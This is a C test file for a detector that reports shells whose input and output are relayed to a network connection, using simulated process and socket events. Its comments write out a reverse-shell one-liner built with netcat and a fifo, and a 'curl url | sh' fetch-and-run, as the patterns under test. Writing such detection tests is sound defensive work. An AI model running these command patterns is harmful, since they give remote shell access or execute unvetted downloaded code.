/* SPDX-License-Identifier: GPL-2.0-only */
/* Network to shell: who holds the other ends of a shell's streams, and what is told of it. */
#include "seen.h"

#include <errno.h>
#include <sys/socket.h>

#include "../../common/relay.h"

#define PIPEFS 12

/* ---- records ---- */

static struct kwp_io io_pipe(uint64_t inode)
{
	return (struct kwp_io){.kind = KWP_IO_PIPE, .inode = inode, .device = PIPEFS};
}

static struct kwp_io io_pty(uint64_t inode, bool master)
{
	return (struct kwp_io){.kind = KWP_IO_TTY, .inode = inode, .device = 20, .master = master};
}

static struct kwp_io io_unix(uint64_t inode, uint64_t far)
{
	return (struct kwp_io){.kind = KWP_IO_SOCKET, .inode = inode, .far = far,
			       .socket_type = SOCK_STREAM, .peer.family = AF_UNIX};
}

static struct kwp_io io_tcp(bool accepted)
{
	return (struct kwp_io){.kind = KWP_IO_SOCKET, .inode = 77, .socket_type = SOCK_STREAM,
			       .accepted = accepted,
			       .peer = {.family = AF_INET, .port = 4444, .addr = {192, 0, 2, 1}}};
}

static struct kwp_held held(struct kwp_io io, int fd, int mode)
{
	return (struct kwp_held){.io = io, .fd = fd, .mode = mode, .state = 1};
}

static void feed_held(uint32_t pid, const struct kwp_held *list, size_t count, unsigned by)
{
	struct draft draft = draft_of(KWP_HELD, 900, 1);
	struct kwp_hold *hold = DRAFT_FACTS(&draft, kwp_hold);

	draft.head.backend = by;
	hold->pid = pid;
	hold->start = draft_start(pid);
	hold->count = count;
	snprintf(hold->comm, sizeof(hold->comm), "holder-%u", pid);
	draft_bytes(&draft, 0, (const char *)list, count * sizeof(*list));
	CHECK(!feed(&draft));
}
#define HELD(pid, ...)                                                                             \
	feed_held(pid, (const struct kwp_held[]){__VA_ARGS__},                                     \
		  sizeof((const struct kwp_held[]){__VA_ARGS__}) / sizeof(struct kwp_held),        \
		  KWP_BY_TRACEPOINT)

static void feed_exec(uint32_t pid, const char *args, size_t size, struct kwp_io in,
		      struct kwp_io out)
{
	struct draft draft = draft_exec(pid, 1, "/bin/prog", args, size);

	DRAFT_FACTS(&draft, kwp_exec)->io = (struct kwp_stdio){{in, out, out}};
	CHECK(!feed(&draft));
}
#define EXEC(pid, args, in, out) feed_exec(pid, args, sizeof(args), in, out)

static void feed_net(unsigned type, uint32_t pid, int ret, struct kwp_io in, struct kwp_io out)
{
	struct draft draft = draft_of(type, pid, 1);
	struct kwp_net *net = DRAFT_FACTS(&draft, kwp_net);

	draft.head.flags = KWP_F_RET;
	draft.head.ret = ret;
	net->family = AF_INET;
	net->type = SOCK_STREAM;
	net->fd = 3;
	net->remote = io_tcp(false).peer;
	net->io = (struct kwp_stdio){{in, out, {}}};
	CHECK(!feed(&draft));
}

static void feed_exit(uint32_t pid)
{
	struct draft draft = draft_exit(pid, 1, 0);

	CHECK(!feed(&draft));
}

/* Opens, and forgets what was seen so far but relays. */
static void begin(void)
{
	seen_open((struct enrich_options){.relays = true});
}

static unsigned relays_local(void)
{
	unsigned count = 0;

	for (unsigned i = 0; i < MIN(seen_count, (unsigned)SEEN_MAX); i++)
		count += seen[i].type == KWP_RELAY && strstr(seen[i].json, "\"streams\":\"local\"");
	return count;
}

/* Those to a connection. */
static unsigned relays(void)
{
	unsigned count = 0;

	for (unsigned i = 0; i < MIN(seen_count, (unsigned)SEEN_MAX); i++)
		count += seen[i].type == KWP_RELAY;
	return count - relays_local();
}

/* Has the last relay this part? */
static bool last_has(const char *part)
{
	for (unsigned i = seen_count; i-- > 0;)
		if (seen[i].type == KWP_RELAY)
			return seen_has(i, part);
	return false;
}

/* ---- kinds of channels ---- */

static void test_pipes(void)
{
	begin();
	HELD(10, held(io_tcp(false), 3, 3), held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	EXEC(20, "sh", io_pipe(1), io_pipe(2));
	CHECK(relays() == 1);
	CHECK(last_has("\"streams\":\"both\"") && last_has("\"hops\":1"));
	CHECK(last_has("stdin <- pipe <- holder-10 (10) <- tcp to 192.0.2.1:4444; "
		       "stdout -> pipe -> holder-10 (10) -> tcp to 192.0.2.1:4444"));
	CHECK(last_has("\"inbound\":false"));
	/* The same again is no news; the ends of pipes the wrong way round are no relay. */
	HELD(10, held(io_tcp(false), 3, 3), held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	feed_exit(20);
	EXEC(21, "sh", io_pipe(2), io_pipe(1));
	CHECK(relays() == 1);
	seen_close();
}

static void test_pty_and_unix(void)
{
	begin();
	HELD(10, held(io_tcp(true), 3, 3), held(io_pty(5, true), 4, 3));
	EXEC(20, "-bash", io_pty(5, false), io_pty(5, false));
	CHECK(relays() == 1 && last_has("\"inbound\":true") && last_has("<- pty <-"));
	HELD(11, held(io_tcp(false), 3, 3), held(io_unix(8, 9), 4, 3));
	EXEC(21, "sh\0-i", io_unix(9, 8), io_unix(9, 8));
	CHECK(relays() == 2 && last_has("<- unix socket <- holder-11"));
	/* Another slave of the same terminal is not the other end. */
	HELD(12, held(io_tcp(false), 3, 3), held(io_pty(6, false), 0, 3));
	EXEC(22, "sh", io_pty(6, false), io_pty(6, false));
	CHECK(relays() == 2);
	seen_close();
}

/* cat fifo | sh -i | nc host port >fifo */
/* Whichever of the two begins first, and though the writer has ended meanwhile. */
static void test_local(void)
{
	begin();
	EXEC(120, "base64\0-d", io_pipe(60), io_pipe(61));
	feed_exit(120);
	EXEC(121, "sh", io_pipe(61), (struct kwp_io){});
	CHECK(relays_local() == 1 && last_has("stdin <- pipe <- ") && !relays());
	EXEC(122, "sh\0-c\0ls", io_pipe(61), (struct kwp_io){});
	CHECK(relays_local() == 1);
	EXEC(123, "sh", io_pipe(62), (struct kwp_io){});
	CHECK(relays_local() == 1);
	EXEC(124, "base64\0-d", io_pipe(60), io_pipe(62));
	EXEC(125, "base64\0-d", io_pipe(60), io_pipe(62));
	CHECK(relays_local() == 2 && !relays());
	/* it has a connection after all */
	HELD(124, held(io_pipe(62), 1, 2), held(io_tcp(false), 3, 3));
	EXEC(126, "true", io_pipe(90), io_pipe(91));
	CHECK(relays_local() == 2);
	seen_close();
}

static void test_pipeline(void)
{
	begin();
	EXEC(10, "cat\0fifo", (struct kwp_io){.kind = KWP_IO_NULL}, io_pipe(1));
	EXEC(20, "sh\0-i", io_pipe(1), io_pipe(2));
	EXEC(11, "nc\0host", io_pipe(2), io_pipe(3));
	CHECK(relays() == 0);
	feed_net(KWP_CONNECT, 11, 0, io_pipe(2), io_pipe(3));
	CHECK(relays() == 1 && last_has("\"streams\":\"output\""));
	/* What cat reads is known once everybody's descriptors are listed. */
	feed_held(10, (const struct kwp_held[]){held(io_pipe(1), 1, 2), held(io_pipe(3), 3, 1)}, 2,
		  KWP_BY_ITER);
	CHECK(relays() == 1);
	enrich_flush(seen_enrich, ~0ull);
	CHECK(relays() == 2 && last_has("\"streams\":\"both\"") && last_has("\"hops\":2"));
	CHECK(last_has("stdin <- pipe <- comm-10 (10) <- pipe <- comm-11 (11) <- tcp to"));
	seen_close();
}

/* ---- order ---- */

static void test_late(void)
{
	begin();
	HELD(10, held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	EXEC(20, "sh", io_pipe(1), io_pipe(2));
	CHECK(relays() == 0);
	feed_net(KWP_CONNECT, 10, -ECONNREFUSED, (struct kwp_io){}, (struct kwp_io){});
	CHECK(relays() == 0);
	feed_net(KWP_CONNECT, 10, -EINPROGRESS, (struct kwp_io){}, (struct kwp_io){});
	CHECK(relays() == 1 && last_has("\"streams\":\"both\""));
	seen_close();
	begin();
	HELD(10, held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	EXEC(20, "sh", io_pipe(1), io_pipe(2));
	feed_exit(20);
	feed_net(KWP_ACCEPT, 10, 4, (struct kwp_io){}, (struct kwp_io){});
	CHECK(relays() == 0);
	seen_close();
}

/* curl url | sh, the shell first, or when the other has gone again. */
static void test_input(void)
{
	const struct kwp_io file = {.kind = KWP_IO_FILE, .inode = 3};

	begin();
	EXEC(20, "sh", io_pipe(1), file);
	EXEC(10, "curl\0url", file, io_pipe(1));
	feed_net(KWP_CONNECT, 10, 0, file, io_pipe(1));
	CHECK(relays() == 1 && last_has("\"streams\":\"input\""));
	feed_exit(10);
	EXEC(11, "curl\0url", file, io_pipe(2));
	feed_net(KWP_CONNECT, 11, 0, file, io_pipe(2));
	feed_exit(11);
	EXEC(21, "bash\0-s", io_pipe(2), file);
	CHECK(relays() == 2 && last_has("\"repeats\":1"));
	seen_close();
}

/* What ran before: the iterators tell of programs, then of all that is held. */
static void test_existing(void)
{
	struct draft draft = draft_exec(20, 1, "/bin/sh", "sh", 3);
	const struct kwp_held pair[] = {held(io_tcp(false), 3, 3), held(io_pipe(1), 5, 2),
					held(io_pipe(2), 6, 1)};

	begin();
	draft.head.backend = KWP_BY_ITER;
	DRAFT_FACTS(&draft, kwp_exec)->io = (struct kwp_stdio){{io_pipe(1), io_pipe(2), {}}};
	CHECK(!feed(&draft));
	feed_held(10, pair, 3, KWP_BY_ITER);
	CHECK(seen_count == 0);
	enrich_flush(seen_enrich, 0);
	CHECK(relays() == 1 && last_has("\"backend\":\"iterator\"") && last_has("\"both\""));
	seen_close();
}

/* ---- what is no relay ---- */

static struct process with_args(const char *args, size_t size)
{
	return (struct process){.args = (char *)args, .args_size = size};
}
#define ASKS(args)                                                                                 \
	({                                                                                         \
		struct process p_ = with_args(args, sizeof(args));                                 \
		relay_asks(&p_);                                                                   \
	})

static void test_asks(void)
{
	struct process script = with_args("sh", 3), unknown = {};

	CHECK(ASKS("sh") && ASKS("-bash") && ASKS("/bin/sh\0-i") && ASKS("sh\0-s\0a"));
	CHECK(ASKS("bash\0--norc\0-i") && ASKS("bash\0--rcfile\0f\0-i") && ASKS("python3\0-"));
	CHECK(ASKS("busybox\0sh") && ASKS("sh\0-o\0pipefail") && ASKS("python3\0-i"));
	CHECK(!ASKS("sh\0-c\0id") && !ASKS("bash\0-lc\0id") && !ASKS("sh\0a.sh"));
	CHECK(!ASKS("perl\0-e\0x") && !ASKS("busybox\0sh\0a.sh") && !ASKS("python3\0-i\0x.py"));
	script.script = (char *)"/cgi-bin/a.sh";
	CHECK(!relay_asks(&script) && !relay_asks(&unknown));
}

static void test_none(void)
{
	begin();
	HELD(10, held(io_tcp(false), 3, 3), held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	EXEC(20, "sh\0-c\0id", io_pipe(1), io_pipe(2));
	CHECK(relays() == 0);
	/* The same pipe number on another file system; a socket that only listens. */
	struct kwp_io other = io_pipe(1);
	struct kwp_held listening = held(io_tcp(false), 3, 3);

	other.device = 99;
	EXEC(21, "sh", other, io_pipe(4));
	CHECK(relays() == 0);
	listening.state = 10;
	HELD(11, listening, held(io_pipe(6), 5, 2), held(io_pipe(7), 6, 1));
	EXEC(22, "sh", io_pipe(6), io_pipe(7));
	CHECK(relays() == 0);
	seen_close();
	/* Nobody asked. */
	seen_open((struct enrich_options){});
	HELD(10, held(io_tcp(false), 3, 3), held(io_pipe(1), 5, 2), held(io_pipe(2), 6, 1));
	EXEC(20, "sh", io_pipe(1), io_pipe(2));
	CHECK(relays() == 0 && !enrich_look_due(seen_enrich, ~0ull));
	seen_close();
}

/* ---- bounds ---- */

static void test_bounds(void)
{
	begin();
	for (uint32_t pid = 1000; pid < 5000; pid++) {
		struct kwp_held pair[] = {held(io_tcp(false), 3, 3), held(io_pipe(pid), 5, 2),
					  held(io_pipe(100000 + pid), 6, 1)};

		feed_held(pid, pair, 3, KWP_BY_TRACEPOINT);
		feed_exec(100000 + pid, "sh", 3, io_pipe(pid), io_pipe(100000 + pid));
	}
	CHECK(seen_count == 8000);
	CHECK(enrich_evicted(seen_enrich) > 1000);
	seen_close();
}

static void test_looks(void)
{
	struct relay_table *table;
	uint64_t now = draft_clock;

	begin();
	EXEC(20, "sh", io_pipe(1), io_pipe(2));
	now = draft_clock;
	CHECK(!enrich_look_due(seen_enrich, now));
	CHECK(enrich_look_due(seen_enrich, now + NS_PER_S));
	CHECK(!enrich_look_due(seen_enrich, now + NS_PER_S + 1));
	CHECK(enrich_look_due(seen_enrich, now + 2 * NS_PER_S));
	feed_exit(20);
	CHECK(!enrich_look_due(seen_enrich, now + 600 * NS_PER_S));
	seen_close();
	table = relay_table_new();
	CHECK(table && !relay_look_due(table, ~0ull) && !relay_evicted(table));
	relay_table_free(table);
	relay_table_free(NULL);
}

int main(void)
{
	test_pipes();
	test_pty_and_unix();
	test_local();
	test_pipeline();
	test_late();
	test_input();
	test_existing();
	test_asks();
	test_none();
	test_bounds();
	test_looks();
	return check_end();
}
